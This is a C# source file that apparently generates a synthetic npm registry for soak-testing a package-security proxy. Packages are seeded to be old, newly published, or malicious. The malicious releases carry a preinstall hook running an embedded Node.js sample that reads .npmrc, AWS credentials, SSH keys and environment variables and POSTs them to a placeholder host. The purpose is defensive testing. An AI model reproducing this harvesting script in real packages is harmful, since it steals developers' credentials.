using System.Collections.Concurrent;
using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using PackageWall.Testing.Packages;

namespace PackageWall.Benchmarks.Load;

/// <summary>
/// What the registry of a soak has: old versions, young ones that wait, malicious ones, and new packages that appear while it runs. All
/// of it follows from the seed.
/// </summary>
internal sealed class SoakWorld
{
    // The shape of the campaigns of 2025, inert: the host does not exist, and nothing of a package is ever run.
    private const string Harvest = """
        const fs = require('fs');
        const os = require('os');
        const path = require('path');
        const https = require('https');
        const found = {};
        for (const place of ['.npmrc', '.aws/credentials', '.ssh/id_rsa']) {
          try { found[place] = fs.readFileSync(path.join(os.homedir(), place), 'utf8'); } catch { }
        }
        const request = https.request({ host: 'collect.soak.invalid', path: '/v1', method: 'POST' });
        request.on('error', () => { });
        request.end(JSON.stringify({ env: process.env, found }));
        """;

    private readonly Random _random;
    private readonly ConcurrentDictionary<string, SoakRelease[]> _packages = new(StringComparer.Ordinal);
    private readonly ConcurrentDictionary<string, SoakRelease> _files = new(StringComparer.Ordinal);
    private readonly ConcurrentDictionary<string, byte[]> _documents = new(StringComparer.Ordinal);
    private volatile SoakRelease[] _old = [];
    private volatile SoakRelease[] _withheld = [];
    private volatile string[] _names = [];
    private int _appeared;

    public SoakWorld(int seed, int packages)
    {
        _random = new Random(seed);
        for (int number = 0; number < packages; number++)
        {
            Publish(string.Create(CultureInfo.InvariantCulture, $"soak-{number:d5}"), isYoung: number % 4 == 0, isMalicious: number % 16 == 1);
        }
    }

    /// <summary>Address of the registry, which its documents name.</summary>
    public Uri Address { get; set; } = new("http://127.0.0.1/");

    /// <summary>Versions that pass.</summary>
    public SoakRelease[] Old => _old;

    /// <summary>Versions that do not.</summary>
    public SoakRelease[] Withheld => _withheld;

    /// <summary>Packages.</summary>
    public string[] Names => _names;

    /// <summary>A package that nobody has asked for yet.</summary>
    public SoakRelease Appear()
    {
        lock (_random)
        {
            return Publish(string.Create(CultureInfo.InvariantCulture, $"soak-new-{_appeared++:d6}"), isYoung: false, isMalicious: false);
        }
    }

    /// <summary>A version by its name.</summary>
    public SoakRelease Release(string name, string version) => _packages[name].Single(release => release.Version == version);

    public (byte[] Bytes, string MediaType)? Find(string path)
    {
        if (_files.TryGetValue(path, out SoakRelease? release))
        {
            return (release.Tarball, "application/octet-stream");
        }

        return _packages.TryGetValue(path, out SoakRelease[]? releases)
            ? (_documents.GetOrAdd(path, name => Encoding.UTF8.GetBytes(Document(name, releases).ToJsonString())), "application/json")
            : null;
    }

    private SoakRelease Publish(string name, bool isYoung, bool isMalicious)
    {
        DateTimeOffset old = TimeProvider.System.GetUtcNow().AddDays(-200 + _random.Next(100));
        var releases = new List<SoakRelease>();
        for (int index = 0; index < 4; index++)
        {
            string version = string.Create(CultureInfo.InvariantCulture, $"1.{index}.0");
            bool young = isYoung && index == 3;
            bool bad = isMalicious && index == 2;
            releases.Add(new SoakRelease(name, version, young ? TimeProvider.System.GetUtcNow().AddHours(-1) : old.AddDays(index), bad, Build(name, version, bad)));
        }

        foreach (SoakRelease release in releases)
        {
            _files[release.Path] = release;
        }

        _packages[name] = [.. releases];
        SoakRelease[] withheld = [.. releases.Where(release => release.IsMalicious || release.PublishedAt > TimeProvider.System.GetUtcNow().AddDays(-7))];
        _withheld = [.. _withheld, .. withheld];
        _old = [.. _old, .. releases.Except(withheld)];
        _names = [.. _names, name];
        return releases[1];
    }

    private byte[] Build(string name, string version, bool isMalicious)
    {
        NpmPackageBuilder package = new(name, version);
        int files = 1 + _random.Next(6);
        for (int file = 0; file < files; file++)
        {
            var code = new StringBuilder();
            for (int line = 0; line < 40 + _random.Next(200); line++)
            {
                code.Append(CultureInfo.InvariantCulture, $"exports.f{line} = function (a, b) {{ return a * {_random.Next()} + b; }};\n");
            }

            package.File(file == 0 ? "index.js" : string.Create(CultureInfo.InvariantCulture, $"lib/part{file}.js"), code.ToString());
        }

        return (isMalicious ? package.Script("preinstall", "node setup.js").File("setup.js", Harvest) : package).Build();
    }

    private JsonObject Document(string name, SoakRelease[] releases)
    {
        var versions = new JsonObject();
        var time = new JsonObject();
        foreach (SoakRelease release in releases)
        {
            versions[release.Version] = new JsonObject
            {
                ["name"] = name,
                ["version"] = release.Version,
                ["license"] = "MIT",
                ["dist"] = new JsonObject
                {
                    ["integrity"] = "sha512-" + Convert.ToBase64String(release.Sha512),
                    ["tarball"] = $"{Address}{release.Path}",
                },
            };
            time[release.Version] = release.PublishedAt.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture);
        }

        return new JsonObject
        {
            ["_id"] = name,
            ["name"] = name,
            ["dist-tags"] = new JsonObject { ["latest"] = releases[^1].Version },
            ["versions"] = versions,
            ["time"] = time,
        };
    }
}
